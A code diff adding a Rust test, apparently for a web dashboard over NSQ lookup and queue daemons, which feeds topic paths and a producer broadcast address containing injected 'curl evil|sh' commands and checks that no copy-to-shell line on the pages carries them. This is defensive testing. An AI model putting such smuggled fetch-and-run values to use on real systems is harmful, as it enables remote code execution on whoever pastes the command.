@@ -284,6 +284,40 @@ async fn what_is_missing_comes_with_what_to_do_and_is_not_asked_for_again() {
     house.end().await;
 }
 
+/// What is copied from a page is pasted into a shell: neither whoever sends a link nor a machine that registers
+/// at an nsqlookupd chooses what it runs.
+#[tokio::test]
+async fn no_line_to_copy_holds_what_a_stranger_would_have_run() {
+    let house = House::new().await;
+    house.fill();
+    for path in ["/topics/a%3Bcurl%20evil%7Csh%0A", "/topics/orders/a%3Bcurl%20evil%7Csh%0A"] {
+        let page = house.get(path).await;
+        page.says(&["Nothing can be called so"]);
+        assert!(page.status == 404 && !page.text.contains("data-copy"), "{path}: {}", page.text);
+    }
+    house.end().await;
+
+    // An nsqd by its own word, which answers nothing.
+    let house = House::new().await;
+    let producer = r#"{"producers":[{"remote_address":"127.0.0.1:5","hostname":"q","version":"1.3.0",
+        "broadcast_address":"q;curl evil|sh;","tcp_port":4150,"http_port":1,"tombstones":[],"topics":[]}]}"#;
+    house.lookupd.says("/nodes", 200, producer);
+    house.lookupd.says("/lookup?topic=returns", 200, r#"{"producers":[]}"#);
+    house.lookupd.says("/channels?topic=returns", 200, r#"{"channels":["archive"]}"#);
+    for path in ["/", "/counter", "/topics/nope", "/topics/returns", "/topics/returns/archive"] {
+        if path == "/topics/returns" {
+            house.lookupd.says("/topics", 200, r#"{"topics":["returns"]}"#);
+        }
+        let page = house.get(path).await;
+        page.says(&["No line to copy"]);
+        for copied in page.text.split("data-copy=\"").skip(1) {
+            let copied = copied.split('"').next().expect("its text");
+            assert!(!copied.contains("evil"), "{path}: {copied}");
+        }
+    }
+    house.end().await;
+}
+
 #[tokio::test]
 async fn an_answer_to_a_form_stays_and_one_that_waits_for_others_does_not() {
     let house = House::new().await;
